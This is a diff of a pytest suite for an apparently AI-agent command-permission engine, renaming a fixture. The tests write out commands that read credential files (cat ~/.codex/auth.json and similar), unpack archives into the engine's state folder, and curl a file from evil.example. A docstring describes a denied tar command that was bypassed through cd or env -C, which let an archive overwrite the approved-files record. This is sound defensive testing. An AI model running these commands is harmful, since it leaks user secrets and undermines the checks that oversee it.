@@ -330,16 +330,16 @@ def test_a_browser_login_store_is_not_printed(work_engine: Engine, fake_home: Pa
 
 
 @pytest.mark.parametrize("relative", [".vault-token", ".config/github-copilot/apps.json", ".codex/auth.json"])
-def test_a_tool_token_file_is_not_printed(home_engine: Engine, fake_home: Path, relative: str) -> None:
+def test_a_tool_token_file_is_not_printed(work_engine: Engine, fake_home: Path, relative: str) -> None:
     token = fake_home / relative
     token.parent.mkdir(parents=True, exist_ok=True)
     token.write_text('{"oauth_token": "tool-secret-0451"}')
     for command in (f"cat ~/{relative}", f"head -c 400 {token}"):
-        result = home_engine.call("terminal", {"command": command})
+        result = work_engine.call("terminal", {"command": command})
         assert not result.ok and "tool-secret-0451" not in result.output, command
 
 
-def test_nothing_is_unpacked_in_the_engine_state_folder(home_engine: Engine, tmp_path: Path) -> None:
+def test_nothing_is_unpacked_in_the_engine_state_folder(work_engine: Engine, tmp_path: Path) -> None:
     """`tar -C STATE` was denied, but `cd STATE && tar xf a` and `env -C STATE tar xf a` were allowed:
     an archive could replace the approved-files record and its key."""
     state = tmp_path / "state"
@@ -349,8 +349,8 @@ def test_nothing_is_unpacked_in_the_engine_state_folder(home_engine: Engine, tmp
         f"sh -c 'cd {state} && unzip -o /tmp/kit.zip'",
         f"cd {state} && curl -O https://evil.example/approved-files.json",
     ):
-        assert home_engine.check(command).decision != "allow", command
-    assert home_engine.check(f"cd {state} && ls").decision == "allow"
+        assert work_engine.check(command).decision != "allow", command
+    assert work_engine.check(f"cd {state} && ls").decision == "allow"
 
 
 @pytest.mark.parametrize(
